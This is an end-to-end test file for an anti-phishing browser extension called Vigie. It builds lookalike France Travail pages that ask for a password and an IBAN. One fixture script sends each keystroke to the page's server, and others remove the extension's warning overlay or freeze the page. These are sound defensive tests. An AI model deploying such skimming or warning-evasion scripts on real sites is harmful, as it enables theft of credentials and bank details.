import type { Page } from 'puppeteer-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { BrowserKind } from '../browser/find.ts'
import { launch, type Vigie } from '../browser/launch.ts'
import { type Server, serve } from '../browser/server.ts'
import { sleep } from '../browser/wait.ts'
import { addressesIn } from '../tools/surfaces/tools.ts'
import { keepWorkerBusy } from './busy-worker.ts'
import { html } from './pages/site.ts'
import { stopWorker } from './stop-worker.ts'
import { see } from './warning/eye.ts'

const GUILTY = `<header><h1>France Travail</h1></header><main><h2>Votre espace France Travail</h2>
  <form><label>Identifiant <input id="user"></label>
  <label>Mot de passe <input id="secret" type="password"></label>
  <label>IBAN <input name="iban"></label><button>Valider</button></form></main>`
/** A lookalike address under a neutral page that asks little: a doubt. */
const NEUTRAL = `<h1>Bienvenue</h1><form><label>Votre message <textarea id="text"></textarea></label></form>`
/** Sends each letter away as it comes. */
const SENDS = `<script>addEventListener('input', ({ target }) => fetch('/got?' + encodeURIComponent(target.value)))</script>`
// Made up; valid check digits, nobody's.
const IBAN = 'FR7612345678901234567890104'

const pages: Record<string, string> = {
  guilty: html(GUILTY, 'France Travail'),
  fights: html(
    `${GUILTY}<script>new MutationObserver(() => {
      for (const div of document.querySelectorAll('html > div')) div.remove()
    }).observe(document.documentElement, { childList: true })</script>`,
    'France Travail',
  ),
  freezes: html(
    `${GUILTY}<script>new MutationObserver(() => { for (;;); })
      .observe(document.documentElement, { childList: true })</script>`,
    'France Travail',
  ),
  neutral: html(NEUTRAL + SENDS, 'Bienvenue'),
}

describe.each<BrowserKind>(['chromium', 'firefox'])('with all of Vigie in %s', (kind) => {
  let server: Server
  let vigie: Vigie
  beforeAll(async () => {
    server = await serve((url) =>
      url.hostname === 'www.francetravail.fr'
        ? html('Le vrai', 'Le vrai')
        : pages[url.pathname.slice(1)],
    )
    vigie = await launch({ kind, ports: server })
  })
  afterAll(async () => {
    await vigie?.close()
    await server?.close()
  })

  async function open(address: string): Promise<Page> {
    const page = await vigie.newPage()
    await page.setViewport({ width: 1000, height: 800 })
    await page.goto(address)
    return page
  }
  async function comesTo(what: string, timeout = 30_000): Promise<void> {
    const end = Date.now() + timeout
    while (!(await addressesIn(vigie)).some((url) => url.includes(what))) {
      if (Date.now() > end) throw new Error(`no tab at ${what}: ${await addressesIn(vigie)}`)
      await sleep(200)
    }
  }
  /** Waits until the way out is seen; over the whole page, unless a banner is enough. */
  async function warned(page: Page, banner = false): Promise<{ x: number; y: number }> {
    const end = Date.now() + 20_000
    for (;;) {
      const { leave, warning } = await see(page)
      if (leave && (banner || warning > 0.8)) return leave
      if (Date.now() > end) throw new Error(`no warning on ${page.url()}`)
      await sleep(200)
    }
  }

  test('a guilty page is covered, takes nothing, and its way out leads to the real site', async () => {
    const page = await open('https://garage-fictif.example/guilty')
    const leave = await warned(page)
    expect((await vigie.badge(page)).text).toBe('!')
    await page.evaluate(() => document.getElementById('secret')?.focus())
    await page.keyboard.type('secret')
    expect(
      await page.evaluate(() => (document.getElementById('secret') as HTMLInputElement).value),
    ).toBe('')
    await page.mouse.click(leave.x, leave.y)
    await comesTo('www.francetravail.fr')
    await page.close()
  })

  test('a page that fights without end loses its tab to our own page', async () => {
    await open('https://atelier-fictif.example/fights')
    await comesTo('src/pages/stop/stop.html')
    expect((await addressesIn(vigie)).some((url) => url.includes('atelier-fictif'))).toBe(false)
  })

  test('a page that freezes at the warning loses its tab, too', async () => {
    const page = await vigie.newPage()
    await page.goto('https://salon-fictif.example/freezes', { waitUntil: [] }).catch(() => {})
    await comesTo('salon-fictif.example')
    const end = Date.now() + 60_000
    while ((await addressesIn(vigie)).some((url) => url.includes('salon-fictif'))) {
      if (Date.now() > end) throw new Error(`still there: ${await addressesIn(vigie)}`)
      await sleep(300)
    }
  })

  /** A page that earns a doubt, with all of an IBAN typed but its last character. */
  async function nearlyGiven(hostname: string): Promise<Page> {
    const page = await open(`https://${hostname}/neutral`)
    await vigie.badgeBecomes(page, '?')
    // The address alone earns the badge; only once the page was read is the moment watched for.
    await warned(page, true)
    await page.evaluate(() => document.getElementById('text')?.focus())
    // A page that was seen to have a field meanwhile is held once more for its verdict.
    while ((await written(page)) === '') await page.keyboard.type(' ')
    await page.keyboard.type(IBAN.slice(0, -1))
    return page
  }
  const written = (page: Page) =>
    page.evaluate(() => (document.getElementById('text') as HTMLTextAreaElement).value)
  const sentBy = (hostname: string) =>
    server.requests.filter((url) => url.includes(hostname) && url.endsWith(IBAN))

  test('a doubtful page that is about to get an IBAN becomes a danger', async () => {
    const page = await nearlyGiven('france-travail-espace.example')
    await page.keyboard.type(IBAN.slice(-1))
    await vigie.badgeBecomes(page, '!')
    await warned(page)
    expect((await written(page)).trim()).toBe(IBAN.slice(0, -1))
    expect(sentBy('france-travail-espace.example')).toEqual([])
    await page.close()
  })

  test('so it does when the worker dies over the news of it, and the person tries again', async () => {
    const page = await nearlyGiven('france-travail-dossier.example')
    // The news waits for the worker, which dies before it hears of it.
    const busy = keepWorkerBusy(vigie, 3_000).catch(() => {})
    await sleep(300)
    await page.keyboard.type(IBAN.slice(-1))
    await sleep(300)
    await stopWorker(vigie)
    await busy
    // Longer than the page is held for a verdict.
    await sleep(4_000)
    expect((await vigie.badge(page)).text).toBe('?')
    await page.keyboard.type(IBAN.slice(-1))
    await vigie.badgeBecomes(page, '!')
    await warned(page)
    expect((await written(page)).trim()).toBe(IBAN.slice(0, -1))
    expect(sentBy('france-travail-dossier.example')).toEqual([])
    await page.close()
  })
})
